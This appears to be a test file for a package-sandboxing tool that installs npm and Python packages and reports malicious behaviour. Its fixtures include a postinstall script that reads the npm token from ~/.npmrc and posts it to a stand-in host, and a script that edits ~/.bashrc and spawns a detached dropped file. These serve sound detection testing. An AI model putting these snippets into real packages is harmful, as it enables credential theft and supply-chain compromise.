import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { npmTarball, sdist } from "../../test/support/archives.ts";
import { temporaryFolder } from "../../test/support/folders.ts";
import { inspect } from "../inspection/inspect.ts";
import { type DetonationOptions, detonate } from "./detonate.ts";
import { findingsOf } from "./observe.ts";
import { planFor } from "./plan.ts";
import { findPython, missingWalls } from "./probe.ts";

const walls = missingWalls(process.env);
const skip = walls.length > 0 ? `nothing can be detonated here: ${walls.join(", ")}` : false;
const python = skip ? undefined : findPython(process.env);

const options = (stepMs = 120_000): DetonationOptions => ({
  programs: { node: process.execPath, python },
  stepMs,
  interrupted: new AbortController().signal,
  baselines: new Map(),
  say: () => {},
});

function subject(filename: string, bytes: Buffer) {
  const path = join(temporaryFolder(), filename);
  writeFileSync(path, bytes);
  const { facts } = inspect({ bytes, filename });
  assert.ok(facts);
  return { path, filename, facts };
}

/** Packages of our own that do what attacks do, to names that nobody has. */
const npmThat = (postinstall: string, index = "") =>
  npmTarball({
    name: "tidy-colors",
    version: "1.0.0",
    files: { "index.js": index, "setup.js": postinstall },
    manifest: { main: "index.js", scripts: { postinstall: "node setup.js" } },
  });

test("a package that sends a secret away on install is malicious, and it is said where to and what", {
  skip,
}, async () => {
  const script = `const fs = require("fs"), http = require("http"), os = require("os");
    const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
    http.request("http://collect.example.invalid:8080/in", { method: "POST" }).on("error", () => {}).end(Buffer.from(token).toString("hex"));`;
  const { verdict, findings } = await detonate(subject("tidy-colors-1.0.0.tgz", npmThat(script)), options());
  assert.equal(verdict, "malicious");
  const says = findings.map(({ detector, says }) => `${detector}: ${says}`);
  for (const wanted of [
    /^detonated-sends-secret: At postinstall: sends the npm token to collect\.example\.invalid port 8080$/,
    /^detonated-reads-secret: At postinstall: reads \/home\/dev\/\.npmrc$/,
    /^detonated-uses-network: At postinstall: asks for the address of collect\.example\.invalid$/,
  ]) {
    assert.ok(
      says.some((line) => wanted.test(line)),
      `${wanted}\n${says.join("\n")}`,
    );
  }
});

test("a package that only computes is clean", { skip }, async () => {
  const { verdict, findings, because } = await detonate(
    subject("tidy-colors-1.0.0.tgz", npmThat("console.log(1 + 1)", "exports.red = 1;")),
    options(),
  );
  assert.deepEqual([verdict, because, findings], ["clean", undefined, []]);
});

test("nothing of this machine is there, and no way out", { skip }, async () => {
  const script = `const fs = require("fs"), net = require("net");
    const seen = [process.getuid(), fs.existsSync(${JSON.stringify(import.meta.filename)}), fs.readdirSync("/home").join(), Object.keys(require("os").networkInterfaces()).join()];
    try { fs.writeFileSync("/usr/bin/x", ""); seen.push("wrote"); } catch { seen.push("read-only"); }
    console.log(seen.join(" "));`;
  const { steps } = await detonate(subject("tidy-colors-1.0.0.tgz", npmThat(script)), options());
  assert.match(steps.find(({ step }) => step === "postinstall")!.output, /^1000 false dev lo read-only$/m);
});

test("a package that never ends is ended, and nobody says that it is clean", { skip }, async () => {
  const done = await detonate(
    subject("tidy-colors-1.0.0.tgz", npmThat("setInterval(() => {}, 1000)")),
    options(15_000),
  );
  assert.deepEqual([done.verdict, done.because], ["unknown", "the step postinstall took too long"]);
});

test("a process that stays behind and settles is seen", { skip }, async () => {
  const script = `const { spawn } = require("child_process"), fs = require("fs"), os = require("os");
    fs.appendFileSync(os.homedir() + "/.bashrc", "# more");
    fs.writeFileSync("/tmp/helper.sh", "#!/bin/sh\\nsleep 300\\n", { mode: 0o755 });
    spawn("/tmp/helper.sh", { detached: true, stdio: "ignore" }).unref();`;
  const { verdict, findings } = await detonate(subject("tidy-colors-1.0.0.tgz", npmThat(script)), options());
  assert.equal(verdict, "suspicious");
  const seen = new Set(findings.map(({ detector }) => detector));
  for (const id of ["detonated-settles", "detonated-starts-dropped-file", "detonated-stays"])
    assert.ok(seen.has(id), id);
});

test("an sdist is built, installed and imported", {
  skip: skip || (python ? false : "no Python with pip"),
}, async () => {
  const backend = `
import os, socket, zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    try: socket.gethostbyname("built.example.invalid")
    except OSError: pass
    with zipfile.ZipFile(folder + "/tidy_colors-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("tidy_colors.py", "import socket\\ntry: socket.gethostbyname('imported.example.invalid')\\nexcept OSError: pass\\n")
        wheel.writestr("tidy_colors-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: tidy_colors\\nVersion: 1.0\\n")
        wheel.writestr("tidy_colors-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: none\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("tidy_colors-1.0.dist-info/RECORD", "")
    return "tidy_colors-1.0-py3-none-any.whl"
`;
  const project = `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n`;
  const bytes = sdist({
    name: "tidy_colors",
    version: "1.0",
    files: { "pyproject.toml": project, "backend.py": backend },
  });
  const { findings, verdict, because } = await detonate(subject("tidy_colors-1.0.tar.gz", bytes), options());
  assert.deepEqual([verdict, because], ["suspicious", undefined]);
  const says = findings.map(({ says }) => says);
  assert.ok(says.includes("At install: asks for the address of built.example.invalid"), says.join("\n"));
  assert.ok(says.includes("At import: asks for the address of imported.example.invalid"), says.join("\n"));
});

test("what runs nothing by itself is unknown, with the reason", () => {
  const facts = {
    form: "nupkg",
    ecosystem: "nuget",
    hooks: {},
    dependencies: {},
    urls: [],
    files: 1,
    unpackedBytes: 1,
  };
  const planned = planFor(
    { path: "/x", filename: "x.nupkg", facts: facts as never },
    { node: "/usr/bin/node", python },
  );
  assert.ok("because" in planned);
});

test("a name that leads out of its folder has no plan", () => {
  for (const name of ["../../etc", "@a/../b", "a b", "", "."]) {
    const facts = {
      form: "npm",
      ecosystem: "npm",
      name,
      hooks: {},
      dependencies: {},
      urls: [],
      files: 1,
      unpackedBytes: 1,
    };
    const planned = planFor(
      { path: "/x", filename: "x.tgz", facts: facts as never },
      { node: "/usr/bin/node", python },
    );
    assert.ok("because" in planned, name);
  }
});

test("what a harmless package does as well is no finding", () => {
  const start = { kind: "start", step: "install", program: "/usr/bin/git", argv: ["git"] } as const;
  assert.deepEqual(findingsOf([start], [start], []), []);
  assert.equal(findingsOf([start], [], [])[0]?.detector, "detonated-starts-program");
});
